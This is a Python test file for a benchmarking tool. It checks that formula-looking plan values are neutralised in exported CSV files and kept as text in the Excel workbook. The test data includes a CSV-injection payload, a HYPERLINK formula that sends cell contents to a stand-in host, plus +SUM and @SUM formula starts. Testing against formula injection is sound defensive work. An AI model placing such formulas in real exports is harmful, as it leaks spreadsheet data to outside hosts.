"""Formula-looking plan text (model, precision, operator) reaches summary.csv neutralised, and the
Session sheet says how; the workbook keeps it as text."""
import csv

import openpyxl

from kperf_gui.session.csvout import FORMULA_NOTE, FORMULA_START
from runhelp import kperf

MODEL = '=HYPERLINK("http://x.example/?q="&A1,"open")'
PRECISION = "+SUM(1,2)"
OPERATOR = "@SUM(A1:A9)"


def test_formulas_from_the_plan_are_neutralised_in_summary_csv(tmp_path):
    p = tmp_path / "plan.toml"
    p.write_text(f"[session]\nname = \"formulas\"\noperator = '{OPERATOR}'\n"
                 f"[target]\nkind = \"simulated\"\nmodel = '{MODEL}'\n"
                 f"[sweep]\nprecision = ['{PRECISION}']\ninput_tokens = [16]\noutput_tokens = [4]\n"
                 "concurrency = [1]\nrequests_per_point = 2\nidle_baseline_s = 0\n")
    r = kperf("run", p, "--out", tmp_path / "o")
    assert r.returncode == 0, r.stdout + r.stderr
    folder = tmp_path / "o"
    with open(folder / "summary.csv", newline="", encoding="utf-8") as f:
        (row,) = list(csv.DictReader(f))
    assert row["model"] == "'" + MODEL and row["precision"] == "'" + PRECISION
    for path in folder.rglob("*.csv"):  # every CSV the tool writes
        with open(path, newline="", encoding="utf-8") as f:
            assert not any(v.startswith(FORMULA_START) for rec in csv.reader(f) for v in rec)
    book = openpyxl.load_workbook(folder / "results.xlsx")
    header = [c.value for c in book["Summary"][1]]
    cell = book["Summary"].cell(2, header.index("model") + 1)
    assert cell.value == MODEL and cell.data_type == "s"
    session = list(book["Session"].iter_rows(values_only=True))
    assert ("Export", "summary.csv", FORMULA_NOTE) in session
    assert any(r[1] == "Operator" and r[2] == OPERATOR for r in session)
